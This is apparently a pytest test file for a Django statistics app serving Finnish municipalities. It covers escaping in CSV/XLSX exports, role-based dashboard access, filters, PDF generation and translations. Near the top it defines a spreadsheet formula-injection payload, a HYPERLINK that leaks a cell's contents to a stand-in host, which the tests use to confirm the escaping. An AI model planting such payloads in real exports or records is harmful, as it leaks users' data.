import csv
import io
import re
from datetime import date

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from openpyxl import load_workbook

from kotopolku.audit.models import AuditEvent
from kotopolku.common.exports import csv_bytes, escape_formula, xlsx_bytes
from kotopolku.organisations.models import Organisation
from kotopolku.rules.models import StatutoryRule
from kotopolku.statistics import summaries
from kotopolku.statistics.models import IndicatorSummary
from kotopolku.statistics.selectors import INDICATORS
from kotopolku.statistics.selectors import TABLES as INDICATOR_TABLES
from kotopolku.statistics.tests.factories import build_year, municipality

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Avaa")'


@pytest.fixture
def year(demo):
    return build_year()


def test_escape_formula():
    for text in (EVIL, "+358401234567", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert escape_formula(text) == "'" + text
    assert escape_formula("Järvenpää") == "Järvenpää"
    assert escape_formula(-5) == -5  # numbers stay numbers
    assert escape_formula(None) is None


def test_formula_cells_arrive_escaped_in_csv_and_xlsx():
    data = csv_bytes(["name", "value"], [[EVIL, 3], ["-2", -2]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL, "3"]
    assert rows[2] == ["'-2", "-2"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("t", ["name", "value"], [[EVIL, 3]])]))).active
    assert sheet["A2"].value == "'" + EVIL
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 3


def test_a_formula_in_the_data_is_escaped_in_the_statistics_exports(demo, client_for):
    """A municipality renamed to a formula: its row label is exported as text."""
    Organisation.objects.filter(municipality_code="611").update(name=EVIL, name_fi=EVIL)
    viewer = client_for("viewer")
    response = viewer.get("/statistics/export/new_clients.csv?period=2025")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    text = response.content.decode("utf-8-sig")
    labels = [r[0] for r in csv.reader(io.StringIO(text), delimiter=";")]
    assert "'" + EVIL in labels
    assert EVIL not in labels
    xlsx = viewer.get("/statistics/export/new_clients.xlsx?period=2025")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    values = [row[0].value for row in sheet.iter_rows()]
    assert "'" + EVIL in values
    assert all(not (isinstance(v, str) and v.startswith("=")) for v in values)
    assert AuditEvent.objects.filter(
        action=AuditEvent.Action.EXPORT, object_type="StatisticsTable"
    ).exists()


@pytest.mark.parametrize("role", ["viewer", "coordinator", "admin", "caseworker"])
def test_dashboard_per_role(year, client_for, role):
    response = client_for(role).get("/statistics/?period=2025")
    assert response.status_code == 200
    page = response.content.decode()
    assert "<svg" in page  # charts, each beside its table
    assert page.count("<table") >= 13
    if role == "caseworker":
        # A case worker sees their own organisation, unsuppressed, and the look is logged.
        assert response.context["filters"].organisation_id == municipality("186").pk
        assert response.context["raw"] is True
        assert AuditEvent.objects.filter(object_type="StatisticsDashboard").exists()
    else:
        assert response.context["raw"] is False
        assert "x</td>" in page


def test_caseworker_cannot_widen_the_dashboard(year, client_for):
    other = municipality("858").pk
    response = client_for("caseworker").get(f"/statistics/?period=2025&organisation={other}")
    assert response.status_code == 200
    # The choice is refused on the form and the own organisation is shown, protected or not.
    assert response.context["form"].errors
    assert response.context["filters"].organisation_id == municipality("186").pk


def test_coordinator_sees_own_organisation_unsuppressed(year, client_for):
    own = municipality("186").pk
    response = client_for("coordinator").get(f"/statistics/?period=2025&organisation={own}")
    assert response.context["raw"] is True
    region = client_for("coordinator").get("/statistics/?period=2025")
    assert region.context["raw"] is False


def test_bad_filters_give_a_clear_error_not_a_500(year, client_for):
    viewer = client_for("viewer")
    response = viewer.get("/statistics/?period=2025-Q9&language=ARABIC")
    assert response.status_code == 200
    assert response.context["form"].errors
    assert "period" in response.context["form"].errors
    export = viewer.get("/statistics/export/new_clients.csv?period=nope")
    assert export.status_code == 400
    assert viewer.get("/statistics/export/no_such_table.csv").status_code == 400
    assert viewer.get("/statistics/export/new_clients.pdf").status_code == 400
    assert viewer.get("/statistics/document.docx").status_code == 400


def test_filters_and_breakdowns(year, client_for):
    viewer = client_for("viewer")
    for query in (
        "period=2025-Q3&by=age_band",
        "period=2025&by=permit_group&gender=female",
        f"period=2025&by=language&municipality={municipality('186').pk}",
        "period=2025&by=gender&permit_group=protection&age_band=30-64&language=ar",
    ):
        assert viewer.get(f"/statistics/?{query}").status_code == 200, query


def test_regional_overview(year, client_for):
    response = client_for("viewer").get("/statistics/overview/?period=2025")
    assert response.status_code == 200
    page = response.content.decode()
    for name in ("Hyvinkää", "Järvenpää", "Tuusula", "Pornainen"):
        assert name in page
    assert "<svg" in page


def test_dashboard_document_is_the_same_chart_in_html_and_pdf(
    year, client_for, django_capture_on_commit_callbacks
):
    viewer = client_for("viewer")
    html = viewer.get("/statistics/document.html?period=2025")
    assert html.status_code == 200
    body = html.content.decode()
    assert "<svg" in body
    assert "doc-table" in body
    # The PDF is made by a background job (run where it is queued in the tests).
    with django_capture_on_commit_callbacks(execute=True):
        started = viewer.get("/statistics/document.pdf?period=2025")
    assert started.status_code == 303
    job = viewer.get(started["Location"]).content.decode()
    download = re.search(r'href="(/jobs/[0-9a-f-]+/download/)"', job)
    pdf = viewer.get(download.group(1))
    assert pdf.status_code == 200
    assert pdf.content.startswith(b"%PDF")
    assert 'filename="kotopolku-statistics-2025.pdf"' in pdf["Content-Disposition"]


def test_query_count_does_not_grow_with_the_data(demo, client_for):
    """Computed live (nothing stored) and read from the summary table (its tables not yet
    built in this process), with no data and with the year's."""
    viewer = client_for("viewer")
    viewer.get("/statistics/?period=2025")  # the session's first request writes more

    def counts() -> tuple[int, int]:
        IndicatorSummary.objects.all().delete()
        with CaptureQueriesContext(connection) as live:
            viewer.get("/statistics/?period=2025")
        summaries._REPLAYED.clear()
        with CaptureQueriesContext(connection) as stored:
            response = viewer.get("/statistics/?period=2025")
        assert response.context["computed"].from_summary == len(INDICATOR_TABLES)
        return len(live.captured_queries), len(stored.captured_queries)

    empty = counts()
    build_year()
    assert counts() == empty


def test_monitoring_list_search_and_empty_state(demo, client_for):
    coordinator = client_for("coordinator")
    page = coordinator.get("/statistics/monitoring/")
    assert page.status_code == 200
    assert len(page.context["page"].object_list) >= 1
    none = coordinator.get("/statistics/monitoring/?q=ei-mitaan-tallaista")
    assert list(none.context["page"].object_list) == []
    assert "empty-state" in none.content.decode()


def test_filters_offer_a_real_empty_choice(demo, client_for):
    page = client_for("viewer").get("/statistics/?period=2025").content.decode()
    assert "---------" not in page
    assert "Kaikki kunnat" in page
    assert "Kaikki organisaatiot" in page
    with translation.override("sv"):
        from kotopolku.statistics.forms import FilterForm

        form = FilterForm()
        assert str(form.fields["municipality"].empty_label) == "Alla kommuner"
        assert str(form.fields["organisation"].empty_label) == "Alla organisationer"


def test_the_language_target_labels_follow_the_rule(year, client_for):
    viewer = client_for("viewer")
    page = viewer.get("/statistics/?period=2025").content.decode()
    assert "Kielitavoite B1.1 päättötestissä" in page
    # An administrator raises the target from 2025 on: no label still says B1.1.
    StatutoryRule.objects.filter(key="language_target_level").update(
        effective_to=date(2024, 12, 31)
    )
    StatutoryRule.objects.create(
        key="language_target_level",
        code="P8",
        value="B1.2",
        unit="cefr",
        effective_from=date(2025, 1, 1),
        source="test",
        confidence="U",
    )
    page = viewer.get("/statistics/?period=2025").content.decode()
    assert "Kielitavoite B1.2 päättötestissä" in page
    assert "Kielitavoite B1.1" not in page
    with translation.override("fi"):
        assert str(INDICATORS["language_target_share"].label) == (
            "B1.2-tason saavuttaneiden osuus kaikissa testatuissa osataidoissa"
        )
    with translation.override("sv"):
        assert str(INDICATORS["language_target_share"].label) == (
            "andel som når B1.2 i alla testade delfärdigheter"
        )
        assert str(INDICATORS["language_target_share_speaking"].label).startswith(
            "andel som når B1.2: "
        )
    with translation.override("en"):
        assert str(INDICATORS["language_target_share"].label) == (
            "share meeting B1.2 in every tested skill"
        )
